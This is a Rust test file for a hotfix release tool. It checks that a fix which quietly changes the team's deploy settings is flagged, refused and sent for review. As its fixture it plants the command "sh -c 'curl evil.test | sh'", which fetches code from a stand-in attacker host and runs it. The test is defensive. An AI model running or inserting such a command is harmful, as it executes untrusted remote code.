//! A fix that changes the team's settings (`.hotfix.toml`, a pinned policy plugin): the
//! plan shows the change, old against new; `finish` puts it into production only once it
//! is accepted (`--accept-settings`), and refuses with nothing written otherwise; `finish
//! --pr` puts it before the reviewers. A fix that leaves the settings alone is not asked.

use std::path::{Path, PathBuf};

use fake_github::FakeGitHub;

use insta::assert_snapshot;

use crate::common::fixtures::HOTFIX;
use crate::common::{TestEnv, scrub};

const SETTINGS: &str = r#"[policies.deploy]
plugin = "builtin:deploy"
commands = ["./deploy.sh"]

[policies.deploy.settings]
deploy = "./deploy.sh {environment} {version}"

[policies.severity]
plugin = "policies/severity.wasm"
sha256 = "920759296323b4a19adbaab8d5600eeceb89d3864a71b2321a3e237493cf28a7"
"#;

/// A released 1.2.3 whose settings grant `./deploy.sh` and pin a severity plugin, and a
/// hotfix started from it.
fn released(env: &TestEnv) -> PathBuf {
    let dir = env.init("repo");
    env.commit(
        &dir,
        "Release 1.2.3",
        &[
            ("VERSION", "1.2.3\n"),
            ("auth.txt", "check\n"),
            (".hotfix.toml", SETTINGS),
            ("policies/severity.wasm", "\0asm old\n"),
        ],
    );
    env.tag(&dir, "v1.2.3");
    env.hotfix(&dir, &["start", "ENG-1234", "fix", "auth", "bypass"])
        .ok();
    dir
}

/// The fix, with a grant and a deploy step riding in.
fn fix_with_a_grant(env: &TestEnv, dir: &Path) {
    let widened = SETTINGS
        .replace(r#"["./deploy.sh"]"#, r#"["./deploy.sh", "sh"]"#)
        .replace(
            "./deploy.sh {environment} {version}",
            "sh -c 'curl evil.test | sh'",
        );
    env.commit(
        dir,
        "fix: refuse unsigned tokens",
        &[
            ("auth.txt", "check signature\n"),
            (".hotfix.toml", &widened),
        ],
    );
}

#[test]
fn a_grant_riding_in_with_a_fix_is_shown_and_not_released_until_accepted() {
    let env = TestEnv::new();
    let dir = &released(&env);
    fix_with_a_grant(&env, dir);

    let plan = env.hotfix(dir, &["finish", "--plan"]).ok();
    for shown in [
        "change the team's settings in .hotfix.toml",
        r#"policies.deploy.commands: ["./deploy.sh"] → ["./deploy.sh", "sh"]"#,
        r#"policies.deploy.settings.deploy: "./deploy.sh {environment} {version}" → "sh -c 'curl evil.test | sh'""#,
    ] {
        assert!(plan.stdout.contains(shown), "{shown}:\n{}", plan.stdout);
    }
    let json = env.hotfix(dir, &["finish", "--plan", "--json"]).ok().json();
    assert_eq!(
        json["plan"]["settings"]["files"],
        serde_json::json!([".hotfix.toml"])
    );

    // Without a terminal and without the flag: refused, and nothing moved or was written.
    let refs = env.refs(dir);
    let run = env.hotfix(dir, &["finish"]).expect(4);
    assert_snapshot!(scrub(&env, &run.stderr), @r#"
    warning: no commit of the fix touches a test: the checklist's `regression-test` stays unticked (`git hotfix check regression-test --note …` if it is tested elsewhere)
    error: ENG-1234 changes the team's settings in .hotfix.toml, which a finish puts into production
    hint: changed: policies.deploy.commands: ["./deploy.sh"] → ["./deploy.sh", "sh"]
    hint: changed: policies.deploy.settings.deploy: "./deploy.sh {environment} {version}" → "sh -c 'curl evil.test | sh'"
    hint: review it (`git hotfix finish --plan` shows it), then `git hotfix finish --accept-settings`; or take the change out of the fix and finish it on its own, reviewed (`git hotfix finish --pr`)
    "#);
    assert!(
        run.stderr.contains(r#"["./deploy.sh", "sh"]"#),
        "{}",
        run.stderr
    );
    assert_snapshot!(scrub(&env, &run.stderr), @r#"
    warning: no commit of the fix touches a test: the checklist's `regression-test` stays unticked (`git hotfix check regression-test --note …` if it is tested elsewhere)
    error: ENG-1234 changes the team's settings in .hotfix.toml, which a finish puts into production
    hint: changed: policies.deploy.commands: ["./deploy.sh"] → ["./deploy.sh", "sh"]
    hint: changed: policies.deploy.settings.deploy: "./deploy.sh {environment} {version}" → "sh -c 'curl evil.test | sh'"
    hint: review it (`git hotfix finish --plan` shows it), then `git hotfix finish --accept-settings`; or take the change out of the fix and finish it on its own, reviewed (`git hotfix finish --pr`)
    "#);
    assert_eq!(env.refs(dir), refs);
    assert_eq!(env.git(dir, &["status", "--porcelain"]), "");
    let journal = std::fs::read_to_string(dir.join(".git/hotfix/ENG-1234.json")).unwrap();
    assert!(journal.contains("\"run\": null"), "{journal}");

    // Accepted: released as any fix, the new settings with it.
    env.hotfix(dir, &["finish", "--accept-settings"]).ok();
    assert_eq!(
        env.git(dir, &["tag", "--merged", "main", "v1.2.4"]).trim(),
        "v1.2.4"
    );
    assert!(
        env.git(dir, &["show", "main:.hotfix.toml"])
            .contains(r#"commands = ["./deploy.sh", "sh"]"#)
    );
    env.fsck(dir);
}

#[test]
fn a_pinned_plugin_replaced_by_a_fix_is_shown_by_its_digests() {
    let env = TestEnv::new();
    let dir = &released(&env);
    env.commit(
        dir,
        "fix: refuse unsigned tokens",
        &[
            ("auth.txt", "check signature\n"),
            ("policies/severity.wasm", "\0asm new\n"),
        ],
    );
    let plan = env.hotfix(dir, &["finish", "--plan"]).ok();
    let digest = |text: &str| {
        use sha2::Digest;
        let bytes = sha2::Sha256::digest(text.as_bytes());
        bytes.iter().map(|b| format!("{b:02x}")).collect::<String>()
    };
    let shown = format!(
        "policies/severity.wasm: sha256 {} → sha256 {}",
        digest("\0asm old\n"),
        digest("\0asm new\n")
    );
    assert!(plan.stdout.contains(&shown), "{shown}:\n{}", plan.stdout);
    // The pin was left as it was: the settings released would refuse the policy.
    let broken = format!(
        "policies.severity.sha256: {} → policies/severity.wasm is sha256 {}: the pin no longer matches",
        digest("\0asm old\n"),
        digest("\0asm new\n")
    );
    assert!(plan.stdout.contains(&broken), "{broken}:\n{}", plan.stdout);
    let refs = env.refs(dir);
    env.hotfix(dir, &["finish"]).expect(4);
    assert_eq!(env.refs(dir), refs);
}

#[test]
fn comments_and_spacing_in_the_settings_are_no_change_to_accept() {
    let env = TestEnv::new();
    let dir = &released(&env);
    let reformatted = format!(
        "# The team's settings, reviewed.\n{}",
        SETTINGS.replace(r#"["./deploy.sh"]"#, r#"[ "./deploy.sh" ]"#)
    );
    env.commit(
        dir,
        "fix: refuse unsigned tokens",
        &[
            ("auth.txt", "check signature\n"),
            (".hotfix.toml", &reformatted),
        ],
    );
    let plan = env.hotfix(dir, &["finish", "--plan"]).ok();
    assert!(!plan.stdout.contains("settings"), "{}", plan.stdout);
    env.hotfix(dir, &["finish"]).ok();
}

#[test]
fn settings_changed_on_production_meanwhile_are_not_the_fixs_to_accept() {
    let env = TestEnv::new();
    let dir = &released(&env);
    env.commit(
        dir,
        "fix: refuse unsigned tokens",
        &[("auth.txt", "check signature\n")],
    );
    // A colleague's reviewed change to the settings lands on main after the hotfix began.
    env.git(dir, &["switch", "--quiet", "main"]);
    env.commit(
        dir,
        "Grant kubectl",
        &[(
            ".hotfix.toml",
            &SETTINGS.replace("./deploy.sh\"]", "./deploy.sh\", \"kubectl\"]"),
        )],
    );
    env.git(dir, &["switch", "--quiet", HOTFIX]);

    let plan = env.hotfix(dir, &["finish", "--plan"]).ok();
    assert!(!plan.stdout.contains("settings"), "{}", plan.stdout);
    env.hotfix(dir, &["finish"]).ok();
    assert!(
        env.git(dir, &["show", "main:.hotfix.toml"])
            .contains("kubectl")
    );
    env.fsck(dir);
}

#[test]
fn finish_pr_puts_a_settings_change_before_the_reviewers() {
    const TOKEN: &str = "ghp_settings_review";
    let env = TestEnv::new();
    let dir = &released(&env);
    let origin = env.path("origin.git");
    env.git(
        dir,
        &["init", "--quiet", "--bare", origin.to_str().unwrap()],
    );
    env.git(dir, &["remote", "add", "origin", origin.to_str().unwrap()]);
    env.git(dir, &["push", "--quiet", "origin", "main", "v1.2.3"]);
    env.git(dir, &["config", "hotfix.github.repository", "acme/shop"]);
    fix_with_a_grant(&env, dir);
    let github = FakeGitHub::start("acme", "shop", TOKEN);

    let mut command = env.hotfix_command(dir, &["finish", "--pr"]);
    command
        .env("GITHUB_TOKEN", TOKEN)
        .env("GITHUB_API_URL", github.url());
    crate::common::Run::of(command).ok();

    let pulls = github.pulls();
    assert_eq!(pulls.len(), 1, "{pulls:?}");
    let body = &pulls[0].body;
    for shown in [
        "## Settings change",
        "**This fix changes the team's settings** (`.hotfix.toml`)",
        r#"- `policies.deploy.commands: ["./deploy.sh"] → ["./deploy.sh", "sh"]`"#,
    ] {
        assert!(body.contains(shown), "{shown}:\n{body}");
    }
}

#[test]
fn a_deploy_says_when_the_deploy_policy_changed_since_what_production_runs() {
    use crate::common::health::Health;
    use crate::deploy::{deployable, finished};
    let env = TestEnv::new();
    let health = Health::answering(&[200]);
    let (repo, _) = deployable(&env, &health, "");
    finished(&env, &repo, "P0", "20 minutes ago");
    let run = env.hotfix(&repo, &["deploy", "--yes"]).ok();
    assert!(
        !run.stderr.contains("deploy policy changed"),
        "{}",
        run.stderr
    );
    env.hotfix(&repo, &["verify"]).ok();

    // The next fix widens the health check's patience, accepted at finish.
    env.hotfix(&repo, &["start", "ENG-1300", "retry", "--severity", "P0"])
        .ok();
    let settings = env
        .git(&repo, &["show", "main:.hotfix.toml"])
        .replace(r#""health-retries" = "2""#, r#""health-retries" = "5""#);
    env.commit(
        &repo,
        "fix: retry the token service",
        &[
            ("auth.txt", "check signature, retry\n"),
            (".hotfix.toml", &settings),
        ],
    );
    env.hotfix(&repo, &["finish", "--accept-settings"]).ok();

    let run = env.hotfix(&repo, &["deploy", "--yes"]).ok();
    assert!(
        run.stderr.contains(
            r#"the deploy policy changed since 1.2.4, which production runs now; this deploy runs under the new one: policies.deploy.settings.health-retries: "2" → "5""#
        ),
        "{}",
        run.stderr
    );
}
